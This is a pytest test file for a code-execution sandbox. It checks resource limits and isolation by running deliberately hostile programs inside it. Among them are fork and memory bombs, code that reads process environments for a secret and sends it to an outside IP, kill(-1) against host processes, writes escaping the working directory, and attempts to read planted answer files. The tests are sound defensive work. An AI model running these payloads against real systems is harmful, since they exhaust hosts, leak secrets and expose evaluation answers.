"""Sandbox: limits, isolation and the worker pool, checked with hostile programs.

Every hostile program runs with small limits. A test whose protection is missing on this
machine is skipped with a reason that names the missing protection (never run unbounded).
"""

from __future__ import annotations

import dataclasses
import json
import os
import stat
import sys
import tempfile
import time

import pytest

from posttrain.sandbox import (
    ExecResult,
    Isolation,
    Job,
    Limits,
    Sandbox,
    Status,
    detect_isolation,
    python_job,
    shell_job,
)
from posttrain.sandbox.session import Session, _parse_report

SMALL = Limits(
    cpu_s=1,
    wall_s=3.0,
    memory_bytes=256 << 20,
    processes=16,
    file_bytes=1 << 20,
    open_files=32,
    output_bytes=4096,
    disk_bytes=8 << 20,
)
ISO = detect_isolation()


def require(active: bool, gap: str) -> None:
    """Skip, naming the missing protection, when the OS did not give it to us."""
    if not active:
        pytest.skip(f"protection missing on this machine: {gap}")


@pytest.fixture(scope="module")
def sandbox() -> Sandbox:
    with Sandbox(SMALL, max_workers=2) as sb:
        yield sb


def run(sandbox: Sandbox, source: str, **kw) -> ExecResult:
    return sandbox.run(python_job(source, **kw))


def test_isolation_report_is_honest():
    print(f"\nisolation: {ISO}\nmissing: {ISO.missing() or 'nothing'}")
    if os.geteuid() == 0:
        assert ISO.drop_uid, "as root every execution must get its own unprivileged uid"
    active = (ISO.net_ns, ISO.pid_ns, ISO.mount_ns, ISO.ipc_ns, ISO.private_root, ISO.memory_cgroup, ISO.process_limit)
    assert len(ISO.missing()) == active.count(False)
    nothing = Isolation(drop_uid=False, user_ns=False, net_ns=False, pid_ns=False, mount_ns=False)
    assert [gap.split(":")[0] for gap in nothing.missing()] == [
        "network",
        "pid",
        "filesystem",
        "visibility",
        "ipc",
        "memory",
        "processes",
        "uid",
    ]


def test_pass_fail_and_output(sandbox):
    ok = run(sandbox, "import sys; print('hello'); print('err', file=sys.stderr)")
    assert ok.status is Status.PASS and ok.stdout == b"hello\n" and ok.stderr == b"err\n"
    bad = run(sandbox, "raise SystemExit(3)")
    assert bad.status is Status.FAIL and bad.exit_code == 3
    crash = run(sandbox, "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)")
    assert crash.status is Status.CRASH and crash.exit_code == -11


def test_files_stdin_env_and_workdir_cleanup(sandbox, monkeypatch):
    monkeypatch.setenv("POSTTRAIN_TEST_SECRET", "hunter2")
    src = (
        "import os, sys\nprint(os.getcwd())\nprint(open('data/in.txt').read())\n"
        "print(repr(sys.stdin.read()))\nprint(sorted(os.environ))\nprint(os.getuid())"
    )
    res = run(sandbox, src, files={"data/in.txt": "payload"})
    assert res.status is Status.PASS, res.stderr
    cwd, content, stdin, env, uid = res.stdout.decode().splitlines()
    assert content == "payload" and stdin == "''"  # stdin closed
    assert "POSTTRAIN_TEST_SECRET" not in env and set(eval(env)) <= {"PATH", "HOME", "TMPDIR", "LANG", "LC_CTYPE"}
    assert not os.path.exists(cwd), "the working directory must be deleted afterwards"
    if ISO.drop_uid:
        assert int(uid) not in (0, os.getuid())
    fed = run(sandbox, "import sys; print(sys.stdin.read()[::-1])", stdin=b"abc")
    assert fed.stdout == b"cba\n"


def test_shell_command(sandbox):
    res = sandbox.run(shell_job("echo $((6*7)); ls"))
    assert res.status is Status.PASS and res.stdout == b"42\n"


def test_infinite_loop_hits_cpu_limit(sandbox):
    roomy = dataclasses.replace(SMALL, wall_s=15.0)  # 1 CPU-second may take a while on a busy machine
    t = time.monotonic()
    res = run(sandbox, "while True: pass", limits=roomy)
    assert res.status is Status.LIMIT_EXCEEDED and res.limit == "cpu"
    # The kernel stops it at the limit; the CPU time we read back can trail that by a tick or two.
    assert res.cpu_s >= 0.8 * SMALL.cpu_s and time.monotonic() - t < roomy.wall_s


def test_sleeper_hits_wall_timeout(sandbox):
    t = time.monotonic()
    res = run(sandbox, "import time; print('start', flush=True); time.sleep(60)", limits=Limits(wall_s=1.0))
    assert res.status is Status.TIMEOUT and res.stdout == b"start\n"
    assert time.monotonic() - t < 2.5


def test_memory_bomb(sandbox):
    # Under global memory pressure (a full test run) the kernel's reclaim, charged to the run,
    # once took its 1 CPU-second before the 256 MiB were reached: give time so memory binds first.
    only_memory = dataclasses.replace(SMALL, cpu_s=10, wall_s=30.0)
    for src in ("x = bytearray(10**10)", "l = []\nwhile True: l.append(' ' * 10**7)"):
        res = run(sandbox, src, limits=only_memory)
        assert res.status is Status.LIMIT_EXCEEDED and res.limit == "memory", res


def test_output_flood_is_truncated_and_killed(sandbox):
    t = time.monotonic()
    res = run(sandbox, "import sys\nwhile True: sys.stdout.write('x' * 1000)")
    assert res.status is Status.LIMIT_EXCEEDED and res.limit == "output"
    assert len(res.stdout) == SMALL.output_bytes and time.monotonic() - t < SMALL.wall_s


def test_file_size_and_disk_limits(sandbox):
    big = run(sandbox, "open('big', 'wb').write(b'x' * (2 << 20))")
    assert big.status is Status.LIMIT_EXCEEDED and big.limit == "file_size"
    require(ISO.mount_ns, "mount namespace (private size-limited working directory)")
    many = run(sandbox, "for i in range(100):\n    open(f'f{i}', 'wb').write(b'x' * (900 << 10))")
    assert many.status is Status.FAIL and b"No space left on device" in many.stderr


def test_fork_bomb_is_bounded(sandbox):
    require(ISO.process_limit, "per-execution process limit (needs a dedicated uid or a user namespace)")
    src = (
        "import os, time\nn = 0\nfor _ in range(10000):\n    try:\n        if os.fork() == 0:\n"
        "            time.sleep(30)\n            os._exit(0)\n        n += 1\n    except OSError:\n"
        "        break\nprint(n, flush=True)\ntime.sleep(30)"
    )
    short = dataclasses.replace(SMALL, wall_s=1.5)
    t = time.monotonic()
    res = run(sandbox, src, limits=short)
    assert res.status is Status.TIMEOUT and time.monotonic() - t < short.wall_s + 1
    assert int(res.stdout) < SMALL.processes, "RLIMIT_NPROC did not stop the fork bomb"
    hammer = run(sandbox, "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", limits=short)
    assert hammer.status in (Status.TIMEOUT, Status.LIMIT_EXCEEDED)


def test_children_die_with_the_program(sandbox):
    require(ISO.pid_ns, "PID namespace (processes that call setsid escape the process-group kill)")
    marker = f"posttrain-escape-{os.getpid()}-{time.time_ns()}"
    res = run(
        sandbox,
        f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(30)  # {marker}\n"
        "else:\n    print(os.getpid(), len([p for p in os.listdir('/proc') if p.isdigit()]))",
    )
    assert res.status is Status.PASS
    pid, visible = map(int, res.stdout.split())
    assert visible <= 4, "a private /proc shows only the sandbox's own processes"
    time.sleep(0.2)
    leftovers = [p for p in os.listdir("/proc") if p.isdigit() and _cmdline_has(p, marker)]
    assert not leftovers, f"sandboxed processes outlived the run: {leftovers}"


def _cmdline_has(pid: str, text: str) -> bool:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return text.encode() in f.read()
    except OSError:
        return False


def test_network_is_unreachable(sandbox):
    require(ISO.net_ns, "network namespace")
    src = (
        "import socket\nfor addr in [('1.1.1.1', 53), ('127.0.0.1', 22), ('::1', 22)]:\n"
        "    try:\n        socket.create_connection(addr, timeout=1)\n        print('CONNECTED', addr)\n"
        "    except OSError as e:\n        print('blocked', e.errno)\n"
        "print(len(socket.if_nameindex()), [n for _, n in socket.if_nameindex()])"
    )
    res = run(sandbox, src)
    assert res.status is Status.PASS and b"CONNECTED" not in res.stdout, res.stdout


def test_secrets_cannot_be_read_or_sent(sandbox, monkeypatch):
    monkeypatch.setenv("POSTTRAIN_TEST_SECRET", "hunter2-secret")
    src = (
        f"import os, socket\nseen = str(dict(os.environ))\n"
        f"for p in ['/proc/1/environ', '/proc/{os.getpid()}/environ', '/proc/{os.getppid()}/environ']:\n"
        "    try:\n        seen += open(p, 'rb').read().decode(errors='replace')\n"
        "    except OSError:\n        pass\nprint(seen)\ntry:\n"
        "    socket.create_connection(('8.8.8.8', 80), timeout=1).sendall(seen.encode())\n    print('SENT')\n"
        "except OSError:\n    pass"
    )
    res = run(sandbox, src)
    assert b"hunter2-secret" not in res.stdout + res.stderr
    if ISO.net_ns:
        assert b"SENT" not in res.stdout


def test_writing_outside_the_workdir_changes_nothing(sandbox):
    require(ISO.mount_ns, "mount namespace (read-only filesystem outside the working directory)")
    outside = tempfile.mkdtemp(prefix="posttrain-outside-")
    try:
        os.chmod(outside, 0o777)  # world-writable: only the sandbox's read-only mounts protect it
        sentinel = os.path.join(outside, "sentinel")
        with open(sentinel, "w") as f:
            f.write("original")
        os.chmod(sentinel, 0o666)
        before = _snapshot(outside)
        src = (
            f"import os, shutil\nfor act in [lambda: open({sentinel!r}, 'w').write('pwned'),\n"
            f"            lambda: os.remove({sentinel!r}),\n"
            f"            lambda: open(os.path.join({outside!r}, 'new'), 'w').write('x'),\n"
            "            lambda: open('/tmp/posttrain-pwned', 'w').write('x'),\n"
            f"            lambda: open({os.path.abspath(__file__)!r}, 'a').write('# pwned'),\n"
            "            lambda: os.symlink('/etc', 'etc') or open('etc/pwned', 'w').write('x')]:\n"
            "    try:\n        act()\n        print('WROTE')\n"
            "    except OSError as e:\n        print('denied', e.errno)"
        )
        res = run(sandbox, src)
        assert res.status is Status.PASS, res.stderr
        assert b"WROTE" not in res.stdout, res.stdout
        assert _snapshot(outside) == before
        assert not os.path.exists("/tmp/posttrain-pwned") and not os.path.exists("/etc/pwned")
    finally:
        if os.path.exists("/tmp/posttrain-pwned"):
            os.remove("/tmp/posttrain-pwned")
        for name in os.listdir(outside):
            os.remove(os.path.join(outside, name))
        os.rmdir(outside)


def _snapshot(folder: str) -> dict[str, bytes]:
    return {name: open(os.path.join(folder, name), "rb").read() for name in sorted(os.listdir(folder))}


def test_killing_the_host_fails_and_host_survives(sandbox):
    require(
        ISO.pid_ns and (ISO.drop_uid or ISO.user_ns),
        "PID namespace plus own uid (without them kill(-1) could hit the host user's processes)",
    )
    src = (
        f"import os, signal\nfor target in [{os.getpid()}, {os.getppid()}, 1, -1, 0]:\n    try:\n"
        "        os.kill(target, signal.SIGKILL)\n"
        "    except OSError as e:\n        print('denied', target, e.errno)"
    )
    res = run(sandbox, src)
    assert res.status in (Status.CRASH, Status.PASS)  # kill(0/-1) may take the program itself down
    assert os.getppid() > 1 and run(sandbox, "print('alive')").stdout == b"alive\n"


def test_pool_runs_jobs_concurrently_and_bounded():
    jobs = [python_job("import time; time.sleep(0.4)") for _ in range(8)]
    with Sandbox(SMALL, max_workers=4) as sb:
        t = time.monotonic()
        results = sb.map(jobs)
        elapsed = time.monotonic() - t
    assert all(r.status is Status.PASS for r in results)
    assert 0.8 <= elapsed < 3.2, f"8 x 0.4 s sleeps on 4 workers took {elapsed:.2f} s"


def test_infrastructure_failures_are_retried_program_failures_are_not(sandbox):
    broken = sandbox.run(Job(argv=("/nonexistent/interpreter",)))
    assert broken.status is Status.ERROR and broken.attempts == sandbox.retries + 1 and broken.error
    failing = run(sandbox, "raise ValueError('mine')")
    assert failing.status is Status.FAIL and failing.attempts == 1


def test_bad_input_is_named():
    with pytest.raises(ValueError, match="cpu_s"):
        Limits(cpu_s=0)
    with pytest.raises(ValueError, match="escapes"):
        Sandbox(SMALL).run(Job(argv=(sys.executable,), files={"../x": "y"}))
    with pytest.raises(ValueError, match="not found"):
        Sandbox(SMALL).run(Job(argv=("no-such-program-xyz",)))
    with pytest.raises(ValueError, match="visible path '/no/such/dir'"):
        Sandbox(SMALL, visible=("/no/such/dir",))
    with pytest.raises(ValueError, match="workdir_root"):
        Sandbox(SMALL, visible=(tempfile.gettempdir(),))


def test_world_executable_check():
    from posttrain.sandbox.isolation import _others_can_run

    assert _others_can_run("/bin/sh")
    private = tempfile.mkdtemp()
    try:
        os.chmod(private, 0o700)
        exe = os.path.join(private, "tool")
        open(exe, "w").close()
        os.chmod(exe, stat.S_IRWXU | stat.S_IRWXO)
        assert not _others_can_run(exe)
    finally:
        os.remove(exe)
        os.rmdir(private)


# --- Gaps found by a hostile probe: each test is the attack, run once with the protection and,
# where it is cheap, once without it (showing the attack is real and the test can fail).


def _world_open_dir() -> str:
    """A host temp dir whose contents only the sandbox's filesystem view can protect."""
    folder = tempfile.mkdtemp(prefix="posttrain-hostile-")
    os.chmod(folder, 0o777)
    return folder


def test_host_unix_sockets_are_unreachable(sandbox):
    require(ISO.private_root, "private root (host socket files are visible)")
    import shutil
    import socket

    folder = _world_open_dir()
    path = os.path.join(folder, "host.sock")
    abstract = f"\0posttrain-hostile-{os.getpid()}"
    servers = []
    try:
        for address in (path, abstract):
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            server.bind(address)
            server.listen(4)
            server.setblocking(False)
            servers.append(server)
        os.chmod(path, 0o777)
        src = (
            "import os, socket\n"
            f"for addr in [{path!r}, {abstract!r}]:\n"
            "    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(addr)\n"
            "        print('CONNECTED', repr(addr))\n    except OSError as e:\n        print('blocked', e.errno)\n"
            "for d in ['/tmp', '/run', '/var/run']:\n    try:\n        print(d, os.listdir(d))\n"
            "    except OSError as e:\n        print(d, 'absent', e.errno)"
        )
        res = run(sandbox, src)
        assert res.status is Status.PASS and b"CONNECTED" not in res.stdout, res.stdout
        assert b"host.sock" not in res.stdout and b"/run [" not in res.stdout
        if ISO.mount_ns:  # the same attack without the private root: the socket file answers
            exposed = Sandbox(SMALL, isolation=dataclasses.replace(ISO, private_root=False)).run(python_job(src))
            assert f"CONNECTED {path!r}".encode() in exposed.stdout, exposed
        for server in servers:
            with pytest.raises(BlockingIOError):
                server.accept()[0].close()  # only the unprotected run may have connected
                server.accept()
    finally:
        for server in servers:
            server.close()
        shutil.rmtree(folder)


_IPC_PROGRAM = """import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
key, queue, create = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3] == "create"
flags = (0o1000 | 0o666) if create else 0  # IPC_CREAT
shm = libc.shmget(key, 4096, flags)
if shm >= 0:
    addr = libc.shmat(shm, None, 0)
    if create:
        ctypes.memmove(addr, b"secret-from-run-1", 17)
    print("shm", ctypes.string_at(addr, 17))
else:
    print("no shm", ctypes.get_errno())
mq = libc.mq_open(queue, (0o100 | 2) if create else 2, 0o666, None)  # O_CREAT | O_RDWR
print("mq", mq >= 0, ctypes.get_errno())
"""


def _host_ipc(key: int, queue: str, remove: bool = False) -> tuple[bool, bool]:
    """(a SysV shm segment with `key` exists, a POSIX queue named `queue` exists) on the host;
    `remove` deletes them (cleanup after the unprotected run)."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    shm = libc.shmget(key, 0, 0)
    mq = libc.mq_open(queue.encode(), 0, 0, None)
    if mq >= 0:
        libc.mq_close(mq)
    if remove:
        if shm >= 0:
            libc.shmctl(shm, 0, None)  # IPC_RMID
        libc.mq_unlink(queue.encode())
    return shm >= 0, mq >= 0


def test_ipc_objects_die_with_the_run(sandbox):
    require(ISO.ipc_ns, "IPC namespace (System V IPC and POSIX message queues outlive the run)")
    key, queue = 0x5EC0000 + os.getpid() % 0xFFFF, f"/posttrain-hostile-{os.getpid()}"
    first = run(sandbox, _IPC_PROGRAM, args=(str(key), queue, "create"))
    assert first.status is Status.PASS and b"shm b'secret-from-run-1'" in first.stdout, first
    assert b"mq True" in first.stdout, first.stdout
    assert _host_ipc(key, queue) == (False, False), "IPC objects outlived the run on the host"
    second = run(sandbox, _IPC_PROGRAM, args=(str(key), queue, "open"))
    assert b"no shm" in second.stdout and b"mq False" in second.stdout, second.stdout  # no channel
    exposed = Sandbox(SMALL, isolation=dataclasses.replace(ISO, ipc_ns=False))
    try:
        exposed.run(python_job(_IPC_PROGRAM, args=(str(key), queue, "create")))
        assert _host_ipc(key, queue) == (True, True), "without the namespace the attack should work"
    finally:
        _host_ipc(key, queue, remove=True)


def test_only_the_tasks_own_files_are_visible(sandbox):
    require(ISO.private_root, "private root (the host filesystem is readable)")
    import shutil
    from pathlib import Path

    repo = Path(__file__).resolve().parents[1]
    data = Path(os.environ.get("POSTTRAIN_DATA", repo.parent / "shared" / "data"))
    folder = _world_open_dir()
    planted = os.path.join(folder, "answers.txt")
    with open(planted, "w") as f:
        f.write("canonical solution")
    os.chmod(planted, 0o644)
    targets = [
        planted,
        str(data / "humaneval" / "HumanEval.jsonl.gz"),
        str(repo / "README.md"),
        os.path.abspath(__file__),
        os.path.expanduser("~"),
        str(repo),
        str(data),
    ]
    src = (
        "import os, sys\nfor p in sys.argv[1:]:\n    try:\n"
        "        print('OPENED', p, os.listdir(p) if os.path.isdir(p) else open(p, 'rb').read(20))\n"
        "    except OSError as e:\n        print('hidden', p, e.errno)\nprint(open('mine.txt').read())"
    )
    try:
        res = run(sandbox, src, args=targets, files={"mine.txt": "task file"})
        assert res.status is Status.PASS, res.stderr
        assert b"OPENED" not in res.stdout and res.stdout.endswith(b"task file\n"), res.stdout
        assert all(f"hidden {p} 2".encode() in res.stdout for p in targets if os.path.exists(p))  # ENOENT
        allowed = Sandbox(SMALL, visible=(folder,)).run(python_job(src, args=[planted], files={"mine.txt": ""}))
        assert b"OPENED " + planted.encode() + b" b'canonical solution'" in allowed.stdout, allowed
    finally:
        shutil.rmtree(folder)


_MEMORY_HOGS = """import os, select, sys, time
n, each = int(sys.argv[1]), int(sys.argv[2])
r, w = os.pipe()
kids = []
for _ in range(n):
    pid = os.fork()
    if pid == 0:
        hold = b"x" * each  # touched: resident, not just reserved
        os.write(w, b"1")
        time.sleep(30)
        os._exit(0)
    kids.append(pid)
held, deadline = 0, time.monotonic() + 2.0
while held < n and (left := deadline - time.monotonic()) > 0:
    if select.select([r], [], [], left)[0]:
        held += len(os.read(r, 64))
alive = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in kids)
print("holding", alive, flush=True)
for pid in kids:
    os.kill(pid, 9)
"""


def _leftover_cgroups() -> list[str]:
    from posttrain.sandbox import cgroup

    found = cgroup.memory_cgroup_parent()
    return [] if found is None else [d for d in os.listdir(found[0]) if d.startswith(f"posttrain-sbx-{os.getpid()}-")]


def test_memory_is_one_budget_per_run(sandbox):
    """Four children each touch 60% of memory_bytes: together 2.4x the limit."""
    each, hogs = int(0.6 * SMALL.memory_bytes), 4
    exposed = Sandbox(SMALL, isolation=dataclasses.replace(ISO, memory_cgroup=False))
    unbounded = exposed.run(python_job(_MEMORY_HOGS, args=(str(hogs), str(each))))
    assert unbounded.status is Status.PASS, unbounded
    # Without the cgroup, the honest bound is per process: processes x memory_bytes.
    assert each * int(unbounded.stdout.split()[1]) <= SMALL.processes * SMALL.memory_bytes
    require(ISO.memory_cgroup, "memory cgroup (a run's processes together may hold processes x memory_bytes)")
    assert unbounded.stdout == f"holding {hogs}\n".encode(), "the attack should work without the budget"
    res = run(sandbox, _MEMORY_HOGS, args=(str(hogs), str(each)))
    assert res.status is Status.LIMIT_EXCEEDED and res.limit == "memory", res
    if res.stdout:  # the OOM killer may pick the parent too; then nothing is printed
        assert each * int(res.stdout.split()[1]) <= SMALL.memory_bytes, res.stdout
    assert not _leftover_cgroups()


def test_files_that_do_not_fit_or_cannot_be_named_are_the_jobs_limit_not_an_error(sandbox):
    """More files than the working directory's inodes, a path longer than the host can name, a
    NUL in a name, a file where a directory goes: the job hit a limit (a failure it caused), never
    a sandbox error and never an exception on the host."""
    crowded = sandbox.run(python_job("print('ran')", files={f"f{i}": "" for i in range(SMALL.inodes + 10)}))
    assert (crowded.status, crowded.limit) == (Status.LIMIT_EXCEEDED, "disk"), crowded
    deep = "/".join(["d" * 200] * 20) + "/" + "x" * 70  # 4,090 characters
    for files in ({deep: "1"}, {"a\0b": "1"}, {"a": "1", "a/b": "2"}):
        res = sandbox.run(python_job("print('ran')", files=files))
        assert (res.status, res.limit) == (Status.LIMIT_EXCEEDED, "files"), (list(files)[0][:20], res)
        assert res.attempts == 1


def test_a_session_keeps_no_name_the_host_cannot_write_and_bounds_its_inodes(sandbox):
    """The agent's long path is not kept (listed as skipped), so the next call still runs; a
    call that leaves more files than `max_inodes` is undone; a forged report naming a path too
    long, or a file where a directory is, is refused."""
    session = Session(sandbox, {"keep.txt": "1"}, max_inodes=8)
    deep = "import os\nfor _ in range(20):\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)\n"
    deep += "open('x' * 70, 'w').write('1')\n"  # 4,090 characters
    res = session.run("python", deep)
    assert res.ok and res.skipped and len(res.skipped[0]) <= 200 and session.snapshot().as_dict() == {"keep.txt": b"1"}
    assert session.run("sh", "cat keep.txt").output == b"1"
    flood = session.run("python", "for i in range(20):\n    open(f'f{i}', 'w').close()\n")
    assert (flood.status, flood.limit) == (Status.LIMIT_EXCEEDED, "inodes")
    assert session.snapshot().as_dict() == {"keep.txt": b"1"}
    report = {"exit": 0, "output": "", "dropped": 0, "skipped": []}
    for files in ([["d/" * 600 + "x", "", 420]], [["a", "", 420], ["a/b", "", 420]]):
        assert _parse_report(json.dumps({**report, "files": files}).encode()) is None
    assert _parse_report(json.dumps({**report, "files": [["a/b", "", 420]]}).encode()) is not None
